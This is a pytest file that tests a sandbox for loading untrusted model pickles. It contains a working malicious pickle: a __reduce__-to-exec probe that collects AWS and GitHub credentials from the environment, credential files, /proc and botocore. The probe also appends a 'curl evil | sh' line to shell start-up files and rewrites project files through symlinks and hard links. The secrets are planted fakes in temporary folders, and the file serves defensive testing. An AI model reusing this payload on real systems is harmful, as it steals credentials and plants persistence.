"""Loading a model runs its code: every load outside the container happens in
`serving_runtime.sandbox`'s untrusted child, which finds no credentials and can change
no file but its own scratch folder.

The probe is a real pickle whose unpickling behaves the way a malicious one would. It
looks for AWS credentials: AWS_* variables and other tokens in the environment,
~/.aws/credentials and ~/.aws/config, the files AWS_SHARED_CREDENTIALS_FILE and
AWS_CONFIG_FILE name, the caller's credentials files by their absolute paths, the caller's
environment and root through /proc, botocore's whole credential chain, and a socket to
a port listening in the caller's network. And it tampers: appends to the caller's shell
start-up files, rewrites the handler source, writes into cdk.out, and writes to the
start-up file and the handler through a symlink and a hard link made in its scratch
folder. It fails the load with what it found and what it changed. The same pickle
loaded by a plain child of the same caller finds every planted secret and changes every
file, so the test can fail. The caller's home and project are fakes in a temporary
folder: the test never touches real files.

Both ways of shutting the filesystem are forced in turn where this machine has them
(`confinement`): Landlock, and user + mount namespaces.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

import pytest

from serving_runtime import sandbox
from serving_runtime.confinement import LANDLOCK, NAMESPACES, NONE
from serving_config.paths import PROJECT_ROOT as ROOT
from serving_runtime.sandbox import network_namespaces_available

SECRETS = {
    "environment": "AKIAENVIRONMENTSECRET",
    "home file": "AKIAHOMEFILESECRET",
    "shared file": "AKIASHAREDFILESECRET",
    "config file": "AKIACONFIGFILESECRET",
    "ci token": "ghp_CITOKENSECRET",
    "web identity token file": "eyJWEBIDENTITYSECRET",
}

PROBE = """
import json, os, pathlib, socket, tempfile
targets = json.loads(TARGETS)
found, tampered = [], []
pointers = {"AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE", "AWS_EC2_METADATA_DISABLED"}
found += [f"env {k}={v}" for k, v in os.environ.items() if k.startswith("AWS_") and k not in pointers]
found += [f"env {k}={v}" for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k]
caller_credentials = targets["home"] + "/.aws/credentials"
parent = os.getppid()
for path in {pathlib.Path.home() / ".aws" / "credentials", pathlib.Path.home() / ".aws" / "config",
             pathlib.Path(os.environ.get("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")),
             pathlib.Path(os.environ.get("AWS_CONFIG_FILE", "/nonexistent")),
             pathlib.Path(caller_credentials), pathlib.Path(f"/proc/{parent}/root{caller_credentials}"),
             *map(pathlib.Path, targets["credential_files"])}:
    try:
        text = path.read_text()
    except OSError:
        continue
    if text.strip():
        found.append(f"file {path}: {text.strip()!r}")
try:
    environ = pathlib.Path(f"/proc/{parent}/environ").read_bytes().decode(errors="replace").split("\\0")
    found += [f"/proc/{parent}/environ {entry}" for entry in environ if entry.startswith("AWS_ACCESS_KEY_ID=")]
except OSError:
    pass

def attempt(what, action):
    try:
        action()
        tampered.append(what)
    except OSError:
        pass

def append(path, line="# tampered"):
    with open(path, "a") as stream:
        stream.write(line + "\\n")

def through_symlink(target, name):
    link = os.path.join(scratch, name)
    os.symlink(target, link)
    append(link)

def through_hard_link(target, name):
    link = os.path.join(scratch, name)
    os.link(target, link)
    append(link)

for name in targets["startup_files"]:
    attempt(f"appended to {name}", lambda name=name: append(os.path.join(targets["home"], name), "curl evil | sh"))
attempt("rewrote the handler", lambda: append(targets["handler"]))
attempt("wrote into cdk.out", lambda: append(os.path.join(targets["cdk_out"], "tampered.template.json")))
scratch = tempfile.mkdtemp()
attempt("wrote .bashrc through a symlink", lambda: through_symlink(os.path.join(targets["home"], ".bashrc"), "rc"))
attempt("wrote the handler through a symlink", lambda: through_symlink(targets["handler"], "handler"))
attempt("wrote the handler through a hard link", lambda: through_hard_link(targets["handler"], "handler-link"))
import botocore.session
credentials = botocore.session.Session().get_credentials()
if credentials is not None:
    found.append(f"botocore {credentials.method}: {credentials.access_key}")
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).close()
    network = "reached the caller's network"
except OSError:
    network = "no network"
raise RuntimeError(f"PROBE credentials found: {found or 'none'}; tampered: {tampered or 'nothing'}; {network}")
"""
STARTUP_FILES = (".bashrc", ".profile", ".zshrc")
CREDENTIAL_FILES = ("shared-credentials", "aws-config", "web-identity-token")  # outside the home, named by AWS_*
TAMPERING = [f"appended to {name}" for name in STARTUP_FILES] + [
    "rewrote the handler", "wrote into cdk.out", "wrote .bashrc through a symlink",
    "wrote the handler through a symlink", "wrote the handler through a hard link"]


class _CredentialProbe:
    def __init__(self, port: int, targets: dict[str, object]):
        self.code = PROBE.replace("PORT", str(port)).replace("TARGETS", repr(json.dumps(targets)))

    def __reduce__(self):
        return exec, (self.code, {})  # one namespace for the whole script


@pytest.fixture
def listening_port():
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


@pytest.fixture
def caller_project(tmp_path) -> Path:
    """A copy of the project's handler, cdk.json and a cdk.out: what a tampering model would rewrite."""
    project = tmp_path / "project"
    shutil.copytree(ROOT / "inference", project / "inference")
    shutil.copy(ROOT / "cdk.json", project / "cdk.json")
    (project / "cdk.out").mkdir()
    (project / "cdk.out" / "manifest.json").write_text("{}")
    return project


@pytest.fixture
def probe_archive(tmp_path, listening_port, caller_project) -> Path:
    import joblib

    targets = {"home": str(tmp_path / "home"), "startup_files": STARTUP_FILES, "cdk_out": str(caller_project / "cdk.out"),
               "handler": str(caller_project / "inference" / "inference.py"),
               "credential_files": [str(tmp_path / name) for name in CREDENTIAL_FILES]}
    buffer = io.BytesIO()
    joblib.dump(_CredentialProbe(listening_port, targets), buffer)
    archive = tmp_path / "model.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("model.joblib")
        info.size = len(buffer.getvalue())
        tar.addfile(info, io.BytesIO(buffer.getvalue()))
    return archive


@pytest.fixture
def caller_with_credentials(tmp_path, monkeypatch) -> dict[str, str]:
    """The environment of a CI job that deploys: every place credentials live, planted."""
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    for name in STARTUP_FILES:
        (home / name).write_text("# the caller's own start-up file\n")
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = {SECRETS['home file']}\naws_secret_access_key = x\n")
    shared = tmp_path / "shared-credentials"
    shared.write_text(f"[default]\naws_access_key_id = {SECRETS['shared file']}\naws_secret_access_key = x\n")
    config = tmp_path / "aws-config"
    config.write_text(f"[default]\naws_access_key_id = {SECRETS['config file']}\naws_secret_access_key = x\n")
    token = tmp_path / "web-identity-token"
    token.write_text(SECRETS["web identity token file"])
    planted = {
        "HOME": str(home),
        "AWS_WEB_IDENTITY_TOKEN_FILE": str(token),
        "AWS_ROLE_ARN": "arn:aws:iam::123456789012:role/deploy",
        "AWS_ACCESS_KEY_ID": SECRETS["environment"],
        "AWS_SECRET_ACCESS_KEY": "x",
        "AWS_SESSION_TOKEN": "x",
        "AWS_SHARED_CREDENTIALS_FILE": str(shared),
        "AWS_CONFIG_FILE": str(config),
        "GITHUB_TOKEN": SECRETS["ci token"],
    }
    for name, value in planted.items():
        monkeypatch.setenv(name, value)
    return {**os.environ}


def _files(*folders: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for folder in folders for path in sorted(folder.rglob("*")) if path.is_file()}


@pytest.fixture
def untouched(tmp_path, caller_project, caller_with_credentials):
    """Asserts, after the test, that the caller's home and project are byte for byte as before."""
    before = _files(tmp_path / "home", caller_project)
    yield
    assert _files(tmp_path / "home", caller_project) == before, "the model's code changed the caller's files"


@pytest.fixture(params=[LANDLOCK, NAMESPACES])
def confinement(request, monkeypatch) -> str:
    """Each way of shutting the filesystem that this machine has, forced in turn."""
    if not sandbox._works(request.param, isolate_network=False):
        pytest.skip(f"this machine cannot confine with {request.param}")
    monkeypatch.setattr(sandbox, "filesystem_confinement", lambda: request.param)
    return request.param


def _assert_found_nothing(output: str) -> None:
    assert "PROBE credentials found: none; tampered: nothing" in output, output
    for where, secret in SECRETS.items():
        assert secret not in output, f"the {where} secret reached the model's code"
    if network_namespaces_available():
        assert "; no network" in output, output


def test_the_probe_finds_every_secret_and_changes_every_file_without_the_sandbox(probe_archive, caller_with_credentials,
                                                                                  caller_project, tmp_path):
    """The control: a plain child of the same caller (what preflight used to be), started
    by a process that holds the credentials in its environment, as endpointctl does."""
    with tarfile.open(probe_archive) as tar:
        tar.extractall(tmp_path / "plain")
    load = "import joblib, sys; joblib.load(sys.argv[1])"
    parent = f"import subprocess, sys; sys.exit(subprocess.run([sys.executable, '-c', {load!r}, sys.argv[1]]).returncode)"
    result = subprocess.run([sys.executable, "-c", parent, str(tmp_path / "plain" / "model.joblib")], capture_output=True,
                            text=True, env=caller_with_credentials)
    for secret in SECRETS.values():
        assert secret in result.stderr
    home_credentials = str(tmp_path / "home" / ".aws" / "credentials")
    for path in (home_credentials, *(tmp_path / name for name in CREDENTIAL_FILES)):
        assert f"file {path}: " in result.stderr  # by absolute path
    assert f"root{home_credentials}: " in result.stderr and "/environ AWS_ACCESS_KEY_ID=" in result.stderr  # /proc
    for what in TAMPERING:
        assert what in result.stderr, what
    assert "# tampered" in (caller_project / "inference" / "inference.py").read_text()
    assert "curl evil" in (tmp_path / "home" / ".bashrc").read_text()
    assert "reached the caller's network" in result.stderr


@pytest.mark.usefixtures("untouched")
def test_the_synth_preflight_loads_the_model_where_it_finds_nothing_and_changes_nothing(probe_archive, caller_project,
                                                                                         confinement):
    from serving_runtime.preflight import PreflightError, preflight_in_subprocess

    with pytest.raises(PreflightError) as refused:
        preflight_in_subprocess(probe_archive, handler_dir=caller_project / "inference")
    _assert_found_nothing(str(refused.value))


@pytest.mark.usefixtures("untouched")
def test_endpointctl_preflight_loads_the_model_where_it_finds_nothing_and_changes_nothing(probe_archive, caller_project,
                                                                                          caller_with_credentials):
    result = subprocess.run([sys.executable, "-m", "endpointctl", "preflight", "--model-data", str(probe_archive),
                             "--code", str(caller_project / "inference")],
                            capture_output=True, text=True, env=caller_with_credentials, timeout=120)
    assert result.returncode == 1
    _assert_found_nothing(result.stdout + result.stderr)


@pytest.mark.usefixtures("untouched")
def test_endpointctl_serve_loads_the_model_where_it_finds_nothing_and_changes_nothing(probe_archive, caller_project,
                                                                                      caller_with_credentials):
    from endpointctl.errors import CommandError
    from endpointctl.local import LocalEndpoint

    with pytest.raises(CommandError) as refused:
        with LocalEndpoint(model_data=probe_archive, code=caller_project / "inference", env=caller_with_credentials,
                           startup_timeout=60):
            pass
    _assert_found_nothing(str(refused.value))


@pytest.mark.usefixtures("untouched")
def test_the_plans_model_diff_loads_the_model_where_it_finds_nothing_and_changes_nothing(probe_archive, caller_project,
                                                                                         confinement, tmp_path):
    from endpointctl.plan.artifacts import Archive
    from endpointctl.plan.model_diff import Scorer, Served

    code = Archive(location="s3://<assets>/code", asset_hash="c" * 64, local_file=caller_project / "inference")
    served = Served(model=Archive(location="s3://<assets>/model", asset_hash="m" * 64, local_file=probe_archive),
                    code=code, program="inference.py")
    (tmp_path / "plan").mkdir()
    scored = Scorer(None, tmp_path / "plan")._score_one(served)
    _assert_found_nothing(scored["error"])


def test_the_sandboxed_child_still_does_its_work(sample_model, confinement):
    """Confined either way, the preflight of a good model passes: the interpreter, the
    project and the archive are readable, the scratch folder writable."""
    from serving_runtime.preflight import preflight_command, run_sandboxed

    result = run_sandboxed(preflight_command(sample_model, code=ROOT / "inference"), capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "serial mode" not in result.stderr  # joblib found the POSIX semaphores it tests for at import


def test_the_sandboxed_child_has_posix_semaphores(confinement):
    """They live in /dev/shm: writable for plain files (Landlock), or a private tmpfs (namespaces)."""
    with sandbox.untrusted_child() as child:
        result = child.run([sys.executable, "-c", "import multiprocessing; multiprocessing.Semaphore()"],
                           capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


HIDDEN_HOME_PROBE = """
import os, sys
def attempt(what, action):
    try:
        action()
        print("allowed", what)
    except OSError as error:
        print("refused", what, type(error).__name__)
home = sys.argv[1]
attempt("read credentials", lambda: open(home + "/.aws/credentials").read())
attempt("list home", lambda: print("home holds", sorted(os.listdir(home))))
attempt("read project", lambda: open(home + "/src/project/cdk.json").read())
attempt("write project", lambda: open(home + "/src/project/cdk.json", "a").write("x"))
attempt("read archive", lambda: open(home + "/Downloads/model.tar.gz").read())
attempt("write scratch", lambda: open(os.environ["HOME"] + "/written", "w").write("x"))
"""


def test_the_caller_home_is_hidden_except_what_the_child_needs(tmp_path, monkeypatch, confinement):
    """A project and an archive inside the home, named on the child's command line, stay
    readable (not writable); the rest of the home can be neither read nor listed (with
    namespaces, the listing shows only the folders bound back in)."""
    home = tmp_path / "home"
    (home / "src" / "project").mkdir(parents=True)
    (home / "src" / "project" / "cdk.json").write_text("{}")
    (home / "Downloads").mkdir()
    (home / "Downloads" / "model.tar.gz").write_text("archive")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(SECRETS["home file"])
    monkeypatch.setenv("HOME", str(home))
    with sandbox.untrusted_child() as child:
        result = child.run([sys.executable, "-c", HIDDEN_HOME_PROBE, str(home), str(home / "src" / "project"),
                            str(home / "Downloads" / "model.tar.gz")], capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    landlock = confinement == LANDLOCK
    assert result.stdout.splitlines() == [
        f"refused read credentials {'PermissionError' if landlock else 'FileNotFoundError'}",
        *(["refused list home PermissionError"] if landlock else ["home holds ['Downloads', 'src']", "allowed list home"]),
        "allowed read project",
        f"refused write project {'PermissionError' if landlock else 'OSError'}",  # EACCES, or EROFS
        "allowed read archive",
        "allowed write scratch",
    ]


@pytest.fixture
def on_macos(monkeypatch):
    """What the sandbox finds on a platform with neither Landlock nor namespaces."""
    from serving_runtime import confinement

    probes = (confinement.landlock_abi, sandbox.filesystem_confinement, sandbox.network_namespaces_available)
    monkeypatch.setattr(sys, "platform", "darwin")
    for probe in probes:
        probe.cache_clear()
    yield
    monkeypatch.undo()
    for probe in probes:
        probe.cache_clear()


@pytest.mark.usefixtures("on_macos")
def test_where_the_filesystem_cannot_be_shut_every_load_says_so_in_one_line(capsys):
    assert sandbox.filesystem_confinement() == NONE and not sandbox.network_namespaces_available()
    for _ in range(2):
        with sandbox.untrusted_child() as child:
            assert child.run([sys.executable, "-c", "pass"]).returncode == 0
    assert capsys.readouterr().err == (sandbox.UNCONFINED_WARNING + "\n") * 2
    assert "\n" not in sandbox.UNCONFINED_WARNING


def test_a_child_that_cannot_be_confined_never_runs(tmp_path, monkeypatch):
    """A confinement step the kernel refuses stops the child before it runs, with one line."""
    from serving_runtime import confinement

    def refused(_confinement):
        raise confinement.ConfinementError(1, "landlock_restrict_self: Operation not permitted")

    monkeypatch.setattr(confinement.Confinement, "apply", refused)  # inherited by the forked child
    marker = tmp_path / "ran"
    with sandbox.untrusted_child() as child:
        result = child.run([sys.executable, "-c", f"open({str(marker)!r}, 'w')"], capture_output=True, text=True)
    assert result.returncode == sandbox.CONFINEMENT_FAILED and not marker.exists()
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("sandbox: cannot confine the child"), result.stderr


def test_a_preflight_that_runs_too_long_is_stopped(probe_archive, monkeypatch):
    from serving_runtime import preflight

    with pytest.raises(preflight.PreflightError, match="did not finish within 0.5 s"):
        preflight.run_sandboxed([sys.executable, "-c", "import time; time.sleep(30)"], timeout_s=0.5,
                                capture_output=True)


def test_a_model_that_allocates_without_bound_stops_at_the_memory_limit():
    from serving_runtime.sandbox import untrusted_child

    with untrusted_child(memory_bytes=512 * 1024**2) as child:
        result = child.run([sys.executable, "-c", "b = bytearray(1024**3)"], capture_output=True, text=True)
    assert result.returncode != 0 and "MemoryError" in result.stderr


def test_the_sandbox_refuses_to_pass_aws_variables():
    from serving_runtime.sandbox import untrusted_child

    with pytest.raises(ValueError, match="AWS_PROFILE must not reach"):
        with untrusted_child(extra_env={"AWS_PROFILE": "deploy"}):
            pass


UNPRIVILEGED_RUN = """
import subprocess, sys
sys.path.insert(0, sys.argv[1])
from serving_runtime import sandbox
from serving_runtime.confinement import LANDLOCK, NAMESPACES
for method in (LANDLOCK, NAMESPACES):
    if not sandbox._works(method, isolate_network=True):
        print(method, "unavailable")
        continue
    sandbox.filesystem_confinement = lambda method=method: method
    with sandbox.untrusted_child() as child:
        # The target is not on the child's command line: paths named there are readable.
        code = f"open({sys.argv[3]!r}" + (").read()" if "read" in sys.argv[2] else ", 'a').write('x')")
        done = child.run([sys.executable, "-c", code], capture_output=True, text=True)
    print(method, "refused" if done.returncode else "allowed")
"""


@pytest.mark.parametrize("attempt", ["read the credentials", "write the handler"])
def test_an_unprivileged_user_is_confined_too(attempt):
    """Developers' laptops: the same confinement as a user with no capabilities at all
    (nobody, through setpriv; only where the tests run as root and a system Python that
    user may run exists, since the project's own interpreter may sit in root's home)."""
    python = shutil.which("python3", path="/usr/bin:/usr/local/bin")
    if os.getuid() != 0 or shutil.which("setpriv") is None or python is None or python.startswith("/root"):
        pytest.skip("needs root (to become nobody), setpriv and a system python3")
    with tempfile.TemporaryDirectory(prefix="sandbox-unprivileged-") as folder:  # pytest's tmp_path is root's only
        _confined_as_nobody(Path(folder), python, attempt)


def _confined_as_nobody(tmp_path: Path, python: str, attempt: str) -> None:
    home, project = tmp_path / "home", tmp_path / "project"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(SECRETS["home file"])
    (project / "inference").mkdir(parents=True)
    (project / "inference" / "inference.py").write_text("# the handler\n")
    shutil.copytree(ROOT / "serving_runtime", project / "serving_runtime")
    tmp_path.chmod(0o755)
    subprocess.run(["chown", "-R", "nobody", str(home), str(project)], check=True)
    target = home / ".aws" / "credentials" if attempt.startswith("read") else project / "inference" / "inference.py"
    result = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", python, "-c",
                             UNPRIVILEGED_RUN, str(project), attempt, str(target)],
                            capture_output=True, text=True, env={"HOME": str(home), "PATH": os.environ["PATH"]},
                            cwd=project, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split("\n")[:2] == [f"{LANDLOCK} refused", f"{NAMESPACES} refused"], result.stdout
    assert (project / "inference" / "inference.py").read_text() == "# the handler\n"


def test_a_folder_the_caller_names_writable_is_the_only_one_besides_the_scratch(tmp_path, confinement, caller_project):
    """`serve --capture DIR` lets its sandboxed server write DIR: that folder, and still
    neither the project beside it nor anything else."""
    capture = tmp_path / "capture"
    capture.mkdir()
    script = ("import sys\n"
              "for path in sys.argv[1:]:\n"
              "    try:\n"
              "        open(path, 'w').write('x'); print('wrote', path)\n"
              "    except OSError as error:\n"
              "        print('refused', path, error.errno)\n")
    targets = [str(capture / "record.jsonl"), str(caller_project / "inference" / "inference.py"),
               str(tmp_path / "beside.txt")]
    with sandbox.untrusted_child(writable=[capture]) as child:
        result = child.run([sys.executable, "-c", script, *targets], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[0] == f"wrote {targets[0]}"
    assert all(line.startswith("refused") for line in result.stdout.splitlines()[1:]), result.stdout
    assert (capture / "record.jsonl").read_text() == "x"
